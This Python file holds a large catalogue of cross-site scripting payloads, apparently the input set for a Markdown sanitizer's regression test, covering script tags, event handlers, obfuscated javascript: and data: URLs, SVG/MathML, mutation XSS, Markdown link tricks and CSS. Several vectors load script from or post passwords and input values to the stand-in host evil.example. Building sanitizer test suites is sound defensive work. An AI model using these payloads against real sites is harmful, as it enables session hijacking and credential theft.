"""XSS vectors for the sanitizer regression test, grouped by the public categories of attack.

Assembled for this project from the well-known families of cross-site scripting: raw
tags, event-handler attributes, URL schemes hidden with entities, case, whitespace and
control characters, SVG and MathML, mutation XSS (markup that changes meaning when
parsed twice), Markdown's own link and image syntaxes, and HTML comments and CDATA.
Every vector is a piece of Markdown as an author could write it in a policy.
"""

ALERT = "alert(document.domain)"

# 1. Script elements in every spelling
SCRIPT_TAGS = [
    f"<script>{ALERT}</script>",
    f"<SCRIPT>{ALERT}</SCRIPT>",
    f"<ScRiPt>{ALERT}</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    f"<script\ttype=text/javascript>{ALERT}</script>",
    f"<script\n>{ALERT}</script\n>",
    f"<script>{ALERT}",
    f"<scr<script>ipt>{ALERT}</scr</script>ipt>",
    f"<<script>script>{ALERT}<</script>/script>",
    f"</script><script>{ALERT}</script>",
    f"<script type=module>{ALERT}</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    f"<p>text <script>{ALERT}</script> more</p>",
    f"<div><script>{ALERT}</script></div>",
    f"<table><tr><td><script>{ALERT}</script></td></tr></table>",
    "<script language=vbscript>msgbox 1</script>",
    "<script for=window event=onload>alert(1)</script>",
    f"<script defer>{ALERT}</script>",
    '<SCRIPT a=">" SRC="https://evil.example/x.js"></SCRIPT>',
    '<script src="https://evil.example/x.js"\n</script>',
    f"<scrscriptipt>{ALERT}</scrscriptipt>",
    f"\\<script>{ALERT}\\</script>",
    f"&lt;script&gt;{ALERT}&lt;/script&gt;<script>{ALERT}</script>",
]

# 2. Event handlers on many elements, in many quoting styles
_EVENT_CARRIERS = [
    "<img src=/static/img/logo.svg {a}>",
    "<img src=x {a}>",
    "<p {a}>text</p>",
    "<a href=/x {a}>link</a>",
    "<div {a}>block</div>",
    "<details open {a}><summary>s</summary>d</details>",
    "<body {a}>",
    "<input autofocus {a}>",
    "<video src=x {a}></video>",
    "<audio src=x {a}></audio>",
    "<marquee {a}>m</marquee>",
    "<select autofocus {a}></select>",
    "<textarea autofocus {a}></textarea>",
    "<table {a}><tr><td>c</td></tr></table>",
    "<td {a}>cell</td>",
    "<h2 {a}>Heading</h2>",
    "<li {a}>item</li>",
    "<blockquote {a}>q</blockquote>",
    "<strong {a}>bold</strong>",
    "<abbr title=t {a}>abbr</abbr>",
]
_EVENTS = [
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter",
    "onanimationstart", "onbegin", "onstart",
]  # fmt: skip
_QUOTES = ['{e}="{js}"', "{e}='{js}'", "{e}={js}", "{E}={js}", '{e} = "{js}"', "/{e}={js}"]
EVENT_HANDLERS = []
for index, carrier in enumerate(_EVENT_CARRIERS):
    event = _EVENTS[index % len(_EVENTS)]
    for quote in _QUOTES:
        attribute = quote.format(e=event, E=event.upper(), js="alert(1)")
        EVENT_HANDLERS.append(carrier.format(a=attribute))
EVENT_HANDLERS += [
    "<img src=x onerror=alert`1`>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img\x0conerror=alert(1) src=x>",
    "<img src=x\tonerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg/onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</p>",
    "<a href=/x onfocusin=alert(1) autofocus tabindex=1>x</a>",
    "<h3 id=x tabindex=1 onfocus=alert(1)>Heading</h3>",
]

# 3. Elements that run or load code by themselves
DANGEROUS_TAGS = [
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<object type=text/x-scriptlet data=https://evil.example/x.sct></object>",
    '<embed src="javascript:alert(1)">',
    "<embed src=https://evil.example/x.swf allowscriptaccess=always>",
    "<applet code=Evil.class codebase=https://evil.example/></applet>",
    '<base href="javascript:/a/-alert(1)///////"><a href=../x>x</a>',
    "<base href=https://evil.example/><a href=/policies/>x</a>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<meta http-equiv=set-cookie content="sessionid=evil">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example/x.html>",
    "<link rel=preload as=script href=https://evil.example/x.js>",
    "<form action=https://evil.example/steal><input name=password><button>Go</button></form>",
    '<form><button formaction="javascript:alert(1)">Go</button></form>',
    "<form id=f></form><button form=f formaction=javascript:alert(1)>Go</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=submit value=click>",
    "<template><script>alert(1)</script></template>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<portal src=https://evil.example></portal>",
    "<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<dialog open onclose=alert(1)>d</dialog>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio><track src=javascript:alert(1)></audio>",
    "<picture><source srcset=javascript:alert(1)><img src=/x.png></picture>",
    '<img srcset="javascript:alert(1) 1x" src=/x.png>',
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1) src=/x.png>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<bgsound src=javascript:alert(1)>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<listing><script>alert(1)</script></listing>",
    "<noembed><script>alert(1)</script></noembed>",
    "<noframes><script>alert(1)</script></noframes>",
    "<title><script>alert(1)</script></title>",
    "<textarea><script>alert(1)</script></textarea>",
    "<area href=javascript:alert(1)>",
    "<map name=m><area shape=rect coords=0,0,9,9 href=javascript:alert(1)></map><img usemap=#m src=/x.png>",
    "<blockquote cite=javascript:alert(1)>q</blockquote>",
    "<q cite=javascript:alert(1)>q</q>",
    '<ins cite="javascript:alert(1)">i</ins><del cite="javascript:alert(1)">d</del>',
    "<a ping=https://evil.example/track href=/x>x</a>",
    "<a href=/x target=_blank>x</a>",
    "<a href=/x download=evil.html>x</a>",
    "<html manifest=https://evil.example/x.appcache>",
    "<head><script>alert(1)</script></head>",
]

# 4. URL schemes, hidden in every way browsers still accept, in every place a URL goes
_SCHEMES = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "java&#x0D;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#x01;javascript:alert(1)",
    "&#x20;javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://%0Aalert(1)",
    "javascript:/*--></script><svg/onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "DATA:text/html,x",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "blob:https://evil.example/uuid",
    "filesystem:https://evil.example/temporary/x",
    "jar:https://evil.example/x.jar!/",
    "view-source:https://evil.example",
    "feed:javascript:alert(1)",
    "ms-its:mhtml:file://C:/x.mht!https://evil.example/x.chm::/x.html",
    "intent://evil#Intent;scheme=javascript;end",
    "x-javascript:alert(1)",
]
_URL_CARRIERS = [
    ("raw-link", '<a href="{u}">link</a>'),
    ("raw-link-unquoted", "<a href={u}>link</a>"),
    ("raw-img", '<img src="{u}" alt="i">'),
    ("md-inline-link", "[link]({u})"),
    ("md-reference-link", "[link][ref]\n\n[ref]: {u}"),
    ("md-image", "![img]({u})"),
    ("md-autolink", "<{u}>"),
    ("md-reference-image", "![img][pic]\n\n[pic]: {u}"),
]
URL_SCHEMES = []
for _carrier_name, _carrier in _URL_CARRIERS:
    for _scheme in _SCHEMES:
        # Markdown link destinations cannot hold raw spaces or newlines: those are kept for raw HTML.
        if _carrier_name.startswith("md-") and any(c in _scheme for c in " \n\r\t<>"):
            URL_SCHEMES.append(_carrier.format(u="<" + _scheme.replace("<", "%3C").replace(">", "%3E") + ">"))
        else:
            URL_SCHEMES.append(_carrier.format(u=_scheme))

# 5. SVG and MathML
SVG_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><circle r=10 /></a></svg>',
    (
        "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;"
        "&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x\" /></svg>"
    ),
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    "<svg><image href=x onerror=alert(1) /></svg>",
    "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    "<svg><discard onbegin=alert(1)>",
    "<svg><title><script>alert(1)</script></title></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><feImage href=javascript:alert(1) /></svg>",
    '<svg xmlns="http://www.w3.org/2000/svg"><script xlink:href=data:,alert(1) /></svg>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
    "<math href=javascript:alert(1)>click</math>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    (
        "<math><semantics><annotation-xml encoding=application/xhtml+xml>"
        "<script>alert(1)</script></annotation-xml></semantics></math>"
    ),
    "<math><mglyph src=javascript:alert(1)></mglyph></math>",
]

# 6. Mutation XSS: markup that a second parse turns into something else
MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></p></svg>',
    (
        '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">'
        "</path></textarea></mtext></svg></mglyph></mi></math>"
    ),
    '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
    '<abbr title="</abbr><img src=x onerror=alert(1)>">x</abbr>',
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<xmp><img src=1 onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<table><a href=/x><td><img src=x onerror=alert(1)></td></a></table>",
    "<table><tr><td>a</td><img src=x onerror=alert(1)></tr></table>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<p><svg><style>*{}</style><img src=x onerror=alert(1)></svg></p>",
    "<style><style/><img src=x onerror=alert(1)></style>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<a href="/x"title="x"onclick="alert(1)">x</a>',
    '<div id="x"><p title="a" onmouseover=alert(1)//">x</p></div>',
    "<b><p><i>x</b>y<img src=x onerror=alert(1)></i></p>",
    "<details><summary><img src=x onerror=alert(1)></summary></details>",
    '<ol start="1" onmouseover="alert(1)"><li>x</li></ol>',
    '<h2 id="x" onmouseover="alert(1)">Heading</h2>',
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror=alert(1) <img src=y>",
]

# 7. Markdown's own syntaxes
MARKDOWN = [
    '[link](javascript:alert(1) "title")',
    "[link](<javascript:alert(1)>)",
    "[link]( javascript:alert(1))",
    "[link](javascript:alert(1)'title')",
    "[link](JAVASCRIPT:alert(1))",
    "[link](javascript&#58;alert(1))",
    "[link](&#x6A;avascript:alert(1))",
    "[link](javascript:alert%281%29)",
    "[link](jav\\ascript:alert(1))",
    '[x](/ "a\\" onmouseover=alert(1) x=\\"")',
    '[x](/x "title" onmouseover=alert(1))',
    '[x](/x"onmouseover="alert(1))',
    '![x](/x.png"onerror="alert(1))',
    '![x" onerror="alert(1)](/x.png)',
    '![x](/x.png "t\\" onerror=\\"alert(1)")',
    "[![img](javascript:alert(1))](javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](/x)",
    "[link with <script>alert(1)</script>](/x)",
    '[ref]\n\n[ref]: javascript:alert(1) "t"',
    "[ref]\n\n[ref]: <javascript:alert(1)>",
    "[ref][]\n\n[ref]: data:text/html,<script>alert(1)</script>",
    "[Ref][REF]\n\n[ref]:\n    javascript:alert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<mailto:a@b.example?body=<script>alert(1)</script>>",
    '<a@b.example"onmouseover="alert(1)>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "## <img src=x onerror=alert(1)> Heading",
    "## Heading <script>alert(1)</script>",
    "### [Heading](javascript:alert(1))",
    "Heading\n=======\n<script>alert(1)</script>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML is here",
    '*[HTML]: " onmouseover="alert(1)\n\nHTML is here',
    "Term\n:   <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "| [x](javascript:alert(1)) | ![y](javascript:alert(1)) |\n|---|---|\n| c | d |",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
    "1. <img src=x onerror=alert(1)>\n2. two",
    "**<script>alert(1)</script>**",
    "_[x](javascript:alert(1))_",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<p>\n[x](javascript:alert(1))\n</p>",
    "\\[x\\](javascript:alert(1))",
    "[x](javascript:alert(1)\n)",
    "[x]: javascript:alert(1)\n[x]",
    "![x](<javascript:alert(1)>)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](//evil.example/%0d%0a<script>alert(1)</script>)",
    '[x](#"><script>alert(1)</script>)',
]

# 8. Comments, CDATA and other markup declarations
COMMENTS = [
    "<!-- --><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><![CDATA[</math><img src=x onerror=alert(1)>]]></math>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!-- a -- > <script>alert(1)</script>",
    "<!---><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><script>alert(1)</script>-->",
    "<!--- -!><img src=x onerror=alert(1)>-->",
    "<? echo 1 ?><script>alert(1)</script>",
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    "<!DOCTYPE html><script>alert(1)</script>",
    "<!ELEMENT x ANY><img src=x onerror=alert(1)>",
    "<!--\n<script>alert(1)</script>\n-->\nafter",
    "a <!-- unterminated <script>alert(1)</script>",
]

# 9. Style, which can exfiltrate or hide content
STYLE = [
    "<style>body{display:none}</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    '<p style="color:red">x</p>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<img src=/x.png style="x:expression(alert(1))">',
    '<p STYLE="behavior:url(x.htc)">x</p>',
    '<a href=/x style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
    '<span style="-moz-binding:url(https://evil.example/x.xml#x)">x</span>',
    '<table style="background-image:url(https://evil.example/t.gif)"><tr><td>x</td></tr></table>',
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
]

GROUPS = {
    "script": SCRIPT_TAGS,
    "event": EVENT_HANDLERS,
    "tag": DANGEROUS_TAGS,
    "scheme": URL_SCHEMES,
    "svgmath": SVG_MATHML,
    "mutation": MUTATION,
    "markdown": MARKDOWN,
    "comment": COMMENTS,
    "style": STYLE,
}


def _unique() -> list[tuple[str, str]]:
    seen: set[str] = set()
    out = []
    for group, vectors in GROUPS.items():
        for index, vector in enumerate(vectors):
            if vector not in seen:
                seen.add(vector)
                out.append((f"{group}-{index:03d}", vector))
    return out


VECTORS: list[tuple[str, str]] = _unique()
